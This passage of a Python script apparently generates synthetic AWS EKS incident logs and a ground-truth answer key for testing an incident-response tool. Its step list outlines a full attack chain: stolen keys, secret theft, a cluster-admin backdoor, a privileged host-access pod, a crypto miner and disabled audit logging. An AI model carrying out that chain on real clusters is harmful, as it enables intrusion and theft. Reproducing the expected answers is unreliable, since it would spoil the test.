    recs.sort(key=lambda r: (r["eventTime"], r["eventID"]), reverse=True)   # newest first, as the API returns them
    events = []
    for r in recs:
        events.append({"EventId": r["eventID"], "EventName": r["eventName"], "ReadOnly": "true" if r["readOnly"] else "false",
                       "AccessKeyId": r["userIdentity"]["accessKeyId"],
                       "EventTime": parse_ct_time(r).strftime("%Y-%m-%dT%H:%M:%S+00:00"),
                       "EventSource": r["eventSource"], "Username": CI_USER, "Resources": lookup_resources(r),
                       "CloudTrailEvent": dumps_compact(r)})
    write(os.path.join(base, "cloudtrail", "lookup-events.json"), dumps_cli({"Events": events}))
    return len(events)


def audit_sorted():
    return sorted(AUDIT, key=lambda e: (e[0]["stageTimestamp"], e[0]["auditID"], e[0]["stage"]))


def write_audit(base):
    lines = [dumps_compact(ev) for ev, _, _ in audit_sorted()]
    write(os.path.join(base, "k8s-audit", "kube-apiserver-audit.log"), "\n".join(lines) + "\n")
    return len(lines)


def write_filter_log_events(base):
    """aws logs filter-log-events --log-group-name /aws/eks/prod-payments/cluster --log-stream-name-prefix
         kube-apiserver-audit --start-time 1773446400000 --filter-pattern '{ $.user.username = "ci-deployer" }'"""
    srng = random.Random("streams")
    events = []
    for ev, _, _ in audit_sorted():
        stream = AUDIT_STREAMS[srng.randrange(2)]
        if ev["user"]["username"] != CI_USER:
            continue
        t = datetime.strptime(ev["stageTimestamp"], "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=timezone.utc)
        ts = epoch_ms(t)
        events.append({"logStreamName": stream, "timestamp": ts, "message": dumps_compact(ev),
                       "ingestionTime": ts + srng.randint(900, 3500),
                       "eventId": str(int(hashlib.sha256(ev["auditID"].encode() + ev["stage"].encode()).hexdigest(), 16))[:56]})
    write(os.path.join(base, "k8s-audit", "filter-log-events.json"), dumps_cli({"events": events, "searchedLogStreams": []}))
    return len(events)


def write_guardduty(base):
    fs = sorted(FINDINGS, key=lambda f: f[0]["createdAt"])
    write(os.path.join(base, "guardduty", "findings.json"), dumps_cli({"Findings": [to_cli(f) for f, _, _ in fs]}))
    lines = []
    for f, _, _ in fs:
        lines.append(dumps_compact({"version": "0", "id": stable_uuid(("eb" + f["id"])),
                                    "detail-type": "GuardDuty Finding", "source": "aws.guardduty", "account": ACCOUNT,
                                    "time": f["updatedAt"][:19] + "Z", "region": REGION, "resources": [], "detail": f}))
    write(os.path.join(base, "guardduty", "eventbridge.jsonl"), "\n".join(lines) + "\n")
    return len(fs)


def write_falco(base):
    alerts = sorted(FALCO, key=lambda a: (a[0]["time"], a[0]["rule"]))
    write(os.path.join(base, "falco", "falco.jsonl"), "\n".join(dumps_compact(a) for a, _, _ in alerts) + "\n")
    return len(alerts)


def write_snapshot(base):
    d = os.path.join(base, "snapshot")
    write(os.path.join(d, "nodes.json"), dumps_cli(snap_nodes()))
    write(os.path.join(d, "pods.json"), dumps_cli(snap_pods()))
    write(os.path.join(d, "clusterrolebindings.json"), dumps_cli(snap_crbs()))
    write(os.path.join(d, "rolebindings.json"), dumps_cli(snap_rolebindings()))
    write(os.path.join(d, "serviceaccounts.json"), dumps_cli(snap_serviceaccounts()))
    write(os.path.join(d, "configmaps-kube-system.json"), dumps_cli(snap_configmaps()))
    write(os.path.join(d, "eks-describe-cluster.json"), dumps_cli(snap_describe_cluster()))
    write(os.path.join(d, "eks-list-access-entries.json"), dumps_cli(snap_access_entries()))


STEPS = {
    "aws-recon": "stolen ci-deployer key: sts GetCallerIdentity, eks ListClusters / DescribeCluster / ListAccessEntries",
    "k8s-discovery": "kubectl API discovery with the stolen identity",
    "k8s-permission-check": "kubectl auth can-i --list",
    "k8s-enumerate": "list namespaces, pods and nodes",
    "k8s-list-secrets": "list every secret in the cluster",
    "k8s-read-secret": "read payments secrets",
    "k8s-read-aws-auth": "read kube-system/aws-auth",
    "k8s-create-serviceaccount": "create default/backup-sa",
    "k8s-create-clusterrolebinding": "bind cluster-admin to default/backup-sa",
    "k8s-create-token": "mint a one-year token for backup-sa",
    "k8s-create-privileged-pod": "privileged, hostPID, hostPath / pod in kube-system from an untrusted registry",
    "k8s-pod-scheduled": "scheduler binds the malicious pod to the node; kubelet requests its token",
    "k8s-pod-running": "kubelet reports the malicious pod running",
    "k8s-exec": "interactive exec into the malicious pod",
    "k8s-read-logs": "read the malicious pod's logs",
    "runtime-shell": "shell in the container",
    "runtime-host-access": "chroot into the host filesystem, read /etc/shadow",
    "runtime-miner": "download and run an XMRig miner",
    "aws-create-role": "create IAM role eks-backup-operator trusted by the attacker's account",
    "aws-create-access-entry": "EKS access entry for the attacker role",
    "aws-associate-admin-policy": "AmazonEKSClusterAdminPolicy for the attacker role",
    "aws-open-security-group": "open the cluster security group (22, 10250) to 0.0.0.0/0",
    "aws-create-access-key": "second access key for ci-deployer",
    "aws-disable-audit-logging": "turn off api/audit/authenticator control-plane logs",
    "aws-use-backdoor-role": "attacker account assumes eks-backup-operator and reads the cluster",
    "aws-use-new-access-key": "attacker tests the new access key",
    "detect-malicious-ip": "GuardDuty: secrets listed from a threat-listed IP",
    "detect-privileged-pod": "GuardDuty: anomalous privileged workload",
    "detect-exec": "GuardDuty: exec into a kube-system pod",
    "detect-new-binary": "GuardDuty runtime: newly written binary executed",
    "detect-crypto-mining": "GuardDuty runtime: traffic to a mining pool",
    "detect-edr-miner": "EDR: miner process on the node",
    "nightly-jenkins": "benign: the old Jenkins uses ci-deployer as it does every night",
    "ci-deploy-0611": "benign: GitHub Actions rollout of payments-api",
    "ci-deploy-0748": "benign: GitHub Actions rollout of payments-api",
    "ci-deploy-1318": "benign: GitHub Actions rollout (no audit events: logging is off by then)",
    "sre-console": "benign: an SRE looks at the cluster in the console",
    "background": "benign: controllers, kubelets, EKS components, add-ons",
    "false-positive": "benign: a rule that fires on normal behaviour",
}


def expect(recs, ocsf):
    """What tests/scenarios scores eksir's incident and plans against (examples/README.md)."""
    timeline, seen = [], {}
    for r in recs:
        if r["label"] == "attack" and (r["id"] not in seen or r["time"] < seen[r["id"]]["time"]):
            seen[r["id"]] = {"time": r["time"], "tag": "DETECTION" if r["source"] in ("guardduty", "falco", "ocsf") else "INCIDENT",
                             "event_id": r["id"], "what": f'{r["source"]} {r["name"]}'}
            if r["source"] == "ocsf":   # an OCSF finding also goes by its metadata.uid
                seen[r["id"]]["alt_event_ids"] = [ocsf["metadata"]["uid"]]
    timeline = sorted(seen.values(), key=lambda e: (e["time"], e["event_id"]))
    lookalike = ("nightly-jenkins", "ci-deploy-0611", "ci-deploy-0748", "ci-deploy-1318", "sre-console")
    timeline_not, ids = [], set()
    for r in recs:
        if r["label"] == "benign" and r["step"] in lookalike and r["id"] not in ids:
            ids.add(r["id"])
            timeline_not.append({"event_id": r["id"], "what": f'{r["source"]} {r["name"]} ({r["step"]})'})
    key = lambda k: ["aws", "iam", "update-access-key", "--access-key-id", k, "--status", "Inactive"]
    return {
        "severity": "Critical",
        "criteria": ["critical.cluster_admin", "high.privileged_pods", "high.sensitive_config_exposure"],
        "criteria_not": ["critical.multiple_nodes"],
        "window": {"first": "2026-03-14T08:41:07Z", "last": "2026-03-14T09:09:03Z"},
        "gaps": ["2026-03-14T09:05:12"],
        "timeline": timeline,
        "timeline_not": timeline_not,
        "affected": [
            {"kind": "iam_user", "name": CI_USER}, {"kind": "access_key", "name": CI_KEY}, {"kind": "access_key", "name": CI_KEY_NEW},
            {"kind": "iam_role", "name": EVIL_ROLE}, {"kind": "access_entry", "name": EVIL_ROLE_ARN},
            {"kind": "binding", "name": BACKUP_CRB}, {"kind": "service_account", "name": BACKUP_SA, "namespace": "default"},
            {"kind": "pod", "name": EVIL_POD, "namespace": EVIL_NS, "attributes": {"node": EVIL_NODE.name}},
            {"kind": "node", "name": EVIL_NODE.name}, {"kind": "instance", "name": EVIL_NODE.instance},
            {"kind": "security_group", "name": CLUSTER_SG},
            {"kind": "secret", "name": "payments-db-credentials", "namespace": "payments"},
            {"kind": "secret", "name": "stripe-api-key", "namespace": "payments"},
            {"kind": "ip", "name": ATTACKER_IP}, {"kind": "cluster", "name": CLUSTER},
        ],
        "not_affected": [
            {"kind": "node", "name": NODES[1].name}, {"kind": "node", "name": NODES[2].name},
            {"kind": "iam_role", "name": GHA_ROLE}, {"kind": "ip", "name": JENKINS_IP}, {"kind": "ip", "name": GHA_IP},
            {"kind": "ip", "name": SRE_IP},
        ],
        "recover_after": ["contain", "eradicate"],
        "plan": [
            {"phase": "contain", "argv": key(CI_KEY), "flags": {"--user-name": CI_USER}, "blocked": False},
            {"phase": "contain", "argv": key(CI_KEY_NEW), "flags": {"--user-name": CI_USER}, "blocked": False},
            {"phase": "contain", "argv": ["aws", "iam", "put-role-policy", "--role-name", EVIL_ROLE], "blocked": False},
            {"phase": "contain", "argv": ["kubectl", "apply"], "stdin_contains": ["kind: NetworkPolicy", f"namespace: {EVIL_NS}", "app: backup-agent"]},
            {"phase": "contain", "argv": ["kubectl", "cordon", EVIL_NODE.name], "blocked": False},
            {"phase": "contain", "argv": ["kubectl", "delete", "serviceaccount", BACKUP_SA], "flags": {"--namespace": "default"}},
            {"phase": "contain", "argv": ["aws", "ec2", "revoke-security-group-ingress", "--group-id", CLUSTER_SG,
                                          "--security-group-rule-ids", "sgr-0e1f2a3b4c5d6e7f8", "sgr-0f2a3b4c5d6e7f809"], "blocked": False},
            {"phase": "contain", "argv": ["aws", "eks", "update-cluster-config", "--name", CLUSTER, "--resources-vpc-config"], "blocked": False},
            {"phase": "contain|eradicate", "argv": ["aws", "eks", "delete-access-entry", "--cluster-name", CLUSTER, "--principal-arn", EVIL_ROLE_ARN],
             "blocked": False},
            {"phase": "contain|eradicate", "argv": ["aws", "eks", "update-cluster-config", "--name", CLUSTER, "--logging"], "blocked": False},
            {"phase": "eradicate", "argv": ["kubectl", "delete", "pod", EVIL_POD], "flags": {"--namespace": EVIL_NS}},
            {"phase": "eradicate", "argv": ["kubectl", "delete", "clusterrolebinding", BACKUP_CRB]},
            {"phase": "eradicate", "argv": ["aws", "iam", "delete-role", "--role-name", EVIL_ROLE]},
            {"phase": "eradicate", "argv": ["aws", "iam", "delete-access-key", "--access-key-id", CI_KEY_NEW]},
        ],
        "plan_not": [
            {"phase": "eradicate", "argv": ["kubectl", "delete", "clusterrolebinding", "ci-deployers-admin"],
             "why": "the over-permissive binding is the root cause but predates the incident: a change for its owners, not eradication"},
            {"phase": "eradicate", "argv": ["iam", "delete-user", "--user-name", CI_USER]},
            {"phase": "contain", "argv": ["kubectl", "cordon", NODES[1].name]},
            {"phase": "contain", "argv": ["kubectl", "cordon", NODES[2].name]},
            {"phase": "recover", "argv": ["kubectl", "uncordon", EVIL_NODE.name],
             "why": "eradication terminated the node's instance (a compromised host is replaced): "
                    "its node group replaced it, and there is nothing to uncordon"},
            {"phase": "recover", "argv": ["eks", "update-cluster-config", "*0.0.0.0/0*"],
             "why": "the attacker reached the API through the endpoint open to everyone"},
            {"phase": "recover", "argv": ["ec2", "authorize-security-group-ingress"], "why": "the attacker opened those rules"},
        ],
        "plan_order": [
            [{"phase": "eradicate", "argv": ["iam", "delete-role-policy", "--role-name", EVIL_ROLE]},
             {"phase": "eradicate", "argv": ["iam", "delete-role", "--role-name", EVIL_ROLE]}],
        ],
    }


def write_truth(path, ocsf, files):
    recs = []
    for r, label, step in CT:
        recs.append({"source": "cloudtrail", "id": r["eventID"], "time": r["eventTime"], "name": r["eventName"],
                     "label": label, "step": step})
    for ev, label, step in audit_sorted():
        recs.append({"source": "k8s-audit", "id": ev["auditID"], "stage": ev["stage"], "time": ev["stageTimestamp"],
                     "name": f'{ev["verb"]} {ev.get("objectRef", {}).get("resource", ev["requestURI"])}'
                             + (f'/{ev["objectRef"]["subresource"]}' if ev.get("objectRef", {}).get("subresource") else ""),
                     "user": ev["user"]["username"], "label": label, "step": step})
    for f, label, step in FINDINGS:
        recs.append({"source": "guardduty", "id": f["id"], "time": f["createdAt"], "name": f["type"], "label": label, "step": step})
    for a, label, step in FALCO:
        recs.append({"source": "falco", "id": a["time"] + " " + a["rule"], "time": a["time"], "name": a["rule"],
                     "label": label, "step": step})
    recs.append({"source": "ocsf", "id": ocsf["finding_info"]["uid"], "time": iso_ms(datetime.fromtimestamp(ocsf["time"] / 1000, tz=timezone.utc)),
                 "name": ocsf["finding_info"]["title"], "label": "attack", "step": "detect-edr-miner"})
    recs.sort(key=lambda x: (x["time"], x["source"], x["id"]))
    truth = {
        "incident": "incident-2026-03-14",
        "summary": ("Stolen long-lived access key of IAM user ci-deployer used from 203.0.113.45 against EKS cluster prod-payments: "
                    "secrets read, cluster-admin ServiceAccount backdoor, privileged hostPath pod running a miner on "
                    f"{EVIL_NODE.name} ({EVIL_NODE.instance}), EKS access entry + cluster-admin policy for a new role trusted by "
                    f"account {ATTACKER_ACCOUNT}, cluster security group opened, second access key, audit logging disabled."),
        "severity": "Critical",
        "entities": {
            "account": ACCOUNT, "region": REGION, "cluster": CLUSTER, "cluster_arn": CLUSTER_ARN,
            "attacker_ips": [ATTACKER_IP, POOL_IP], "attacker_account": ATTACKER_ACCOUNT,
            "compromised_principal": CI_USER_ARN, "compromised_access_keys": [CI_KEY, CI_KEY_NEW],
            "k8s_username": CI_USER, "backdoor_role": EVIL_ROLE_ARN, "backdoor_serviceaccount": f"default/{BACKUP_SA}",
            "backdoor_clusterrolebinding": BACKUP_CRB, "security_group": CLUSTER_SG,
            "security_group_rules": ["sgr-0e1f2a3b4c5d6e7f8", "sgr-0f2a3b4c5d6e7f809"],
            "pod": f"{EVIL_NS}/{EVIL_POD}", "pod_uid": EVIL_POD_UID, "pod_labels": {"app": "backup-agent"},
            "image": EVIL_IMAGE, "container_id": EVIL_CONTAINER_ID,
            "node": EVIL_NODE.name, "instance_id": EVIL_NODE.instance, "availability_zone": EVIL_NODE.zone,
            "miner_sha256": MINER_SHA256,
        },
        "benign_lookalikes": [
            "ci-deployer from 198.51.100.20 at 03:09 (nightly Jenkins job, same user and key as the attack)",
            "github-actions-deploy rollouts at 06:11, 07:48 and 13:18 (CI/CD)",
            "SRE console reads of the cluster at 08:31",
            "kube-proxy pods are privileged and aws-node pods use hostNetwork and hostPath (EKS defaults)",
            "ClusterRoleBinding ci-deployers-admin (pre-existing over-permissive binding: the root cause, not attacker-made)",
            "Falco 'Contact K8S API Server From Container' for cert-manager at 07:12",
        ],
        "steps": STEPS,
        "expect": expect(recs, ocsf),
        "files": files,
        "records": recs,
    }
    write(path, json.dumps(truth, indent=2) + "\n")
    return sum(1 for r in recs if r["label"] == "attack"), sum(1 for r in recs if r["label"] == "benign")


def check(base):
    """Re-read every written file and check that it parses and that the sources agree with each other."""
    import ipaddress
    import re
    problems = []
    texts = {}
    for root, _, names in os.walk(base):
        for name in names:
            path = os.path.join(root, name)
            rel = os.path.relpath(path, base)
            with open(path, "rb") as f:
                data = f.read()
            if name.endswith(".gz"):
                data = gzip.decompress(data)
            texts[rel] = data.decode("utf-8")
    docs = {}
    for rel, text in texts.items():
        try:
            if rel.endswith((".jsonl", ".log")):
                docs[rel] = [json.loads(line) for line in text.splitlines()]
            else:
                docs[rel] = json.loads(text)
        except ValueError as e:
            problems.append(f"{rel}: not valid JSON: {e}")
    if problems:
        return problems
    # CloudTrail: unique eventIDs; lookup-events is a subset of the S3 objects
    s3 = [r for rel, d in docs.items() if rel.startswith("cloudtrail/") and rel.endswith(".json.gz") for r in d["Records"]]
    ids = [r["eventID"] for r in s3]
    if len(ids) != len(set(ids)):
        problems.append("cloudtrail: duplicate eventID in the S3 objects")
    by_id = {r["eventID"]: r for r in s3}
    for e in docs["cloudtrail/lookup-events.json"]["Events"]:
        inner = json.loads(e["CloudTrailEvent"])
        if by_id.get(e["EventId"]) != inner:
            problems.append(f"lookup-events: {e['EventId']} differs from the S3 record")
    # audit: one auditID per request (long-running requests log two stages under one ID)
    audit_lines = docs["k8s-audit/kube-apiserver-audit.log"]
    keys = [(a["auditID"], a["stage"]) for a in audit_lines]
    if len(keys) != len(set(keys)):
        problems.append("k8s-audit: duplicate (auditID, stage)")
    lines = set(texts["k8s-audit/kube-apiserver-audit.log"].splitlines())
    for e in docs["k8s-audit/filter-log-events.json"]["events"]:
        if e["message"] not in lines:
            problems.append(f"filter-log-events: message {e['eventId']} is not in kube-apiserver-audit.log")
    # the malicious pod, its node and the EC2 instance agree everywhere
    pods = {(p["metadata"]["namespace"], p["metadata"]["name"]): p for p in docs["snapshot/pods.json"]["items"]}
    nodes = {n["metadata"]["name"]: n for n in docs["snapshot/nodes.json"]["items"]}
    pod = pods[(EVIL_NS, EVIL_POD)]
    node = nodes[pod["spec"]["nodeName"]]
    instance = node["spec"]["providerID"].rsplit("/", 1)[1]
    if pod["metadata"]["uid"] != EVIL_POD_UID or instance != EVIL_NODE.instance:
        problems.append("snapshot: malicious pod uid or node/instance mismatch")
    for f in docs["guardduty/findings.json"]["Findings"]:
        inst = f["Resource"].get("InstanceDetails")
        if inst and inst["InstanceId"] != instance:
            problems.append(f"guardduty {f['Id']}: instance {inst['InstanceId']} != {instance}")
        wl = (f["Resource"].get("KubernetesDetails") or {}).get("KubernetesWorkloadDetails")
        if wl and wl["Uid"] != EVIL_POD_UID:
            problems.append(f"guardduty {f['Id']}: workload uid mismatch")
    cid = pod["status"]["containerStatuses"][0]["containerID"].split("//")[1]
    for a in docs["falco/falco.jsonl"]:
        if a["output_fields"].get("k8s.pod.name") == EVIL_POD:
            if a["hostname"] != node["metadata"]["name"] or a["output_fields"]["container.id"] != cid[:12]:
                problems.append(f"falco {a['time']}: host or container id mismatch")
    o = docs["ocsf/edr-detection-finding.json"]
    if o["device"]["instance_uid"] != instance or o["actor"]["process"]["container"]["uid"] != cid:
        problems.append("ocsf: device or container mismatch")
    # public addresses are documentation addresses only (RFC 5737); private ranges are the VPC
    nets = [ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")]
    for rel, text in texts.items():
        for m in set(re.findall(r"(?<![\d./])(\d{1,3}(?:\.\d{1,3}){3})(?![\d.])", text)):
            try:
                ip = ipaddress.ip_address(m)
            except ValueError:
                continue
            if ip.is_private or ip.is_unspecified or ip.is_loopback or any(ip in n for n in nets):
                continue
            problems.append(f"{rel}: address {m} is neither private nor a documentation address")
    return problems


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", default=os.path.dirname(os.path.abspath(__file__)),
                    help="directory that receives incident-2026-03-14/ and incident-2026-03-14.truth.json")
    args = ap.parse_args()
    base = os.path.join(args.out, "incident-2026-03-14")

    # order matters for determinism: every generator draws from the same seeded rng
    attack_trail()
    gha_keys = benign_trail()
    attack_audit()
    jenkins_audit()
    deploy_audit("0611", T("06:11:04.208315"), gha_keys["0611"])
    deploy_audit("0748", T("07:48:21.640772"), gha_keys["0748"])
    background_audit()
    falco_alerts()
    guardduty_findings()
    ocsf = ocsf_finding()

    files = {}
    for name, n in write_cloudtrail(base):
        files[f"cloudtrail/{name}"] = n
    files["cloudtrail/lookup-events.json"] = write_lookup_events(base)
    files["k8s-audit/kube-apiserver-audit.log"] = write_audit(base)
    files["k8s-audit/filter-log-events.json"] = write_filter_log_events(base)
    n = write_guardduty(base)
    files["guardduty/findings.json"] = n
    files["guardduty/eventbridge.jsonl"] = n
    files["falco/falco.jsonl"] = write_falco(base)
    write(os.path.join(base, "ocsf", "edr-detection-finding.json"), json.dumps(ocsf, indent=2) + "\n")
    files["ocsf/edr-detection-finding.json"] = 1
    write_snapshot(base)
    attack, benign = write_truth(os.path.join(args.out, "incident-2026-03-14.truth.json"), ocsf, files)
    for k in sorted(files):
        print(f"{files[k]:5d}  {k}")
    print(f"ground truth: {attack} attack records, {benign} benign records")
    problems = check(base)
    for p in problems:
        print(f"make-examples: {p}", file=sys.stderr)
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
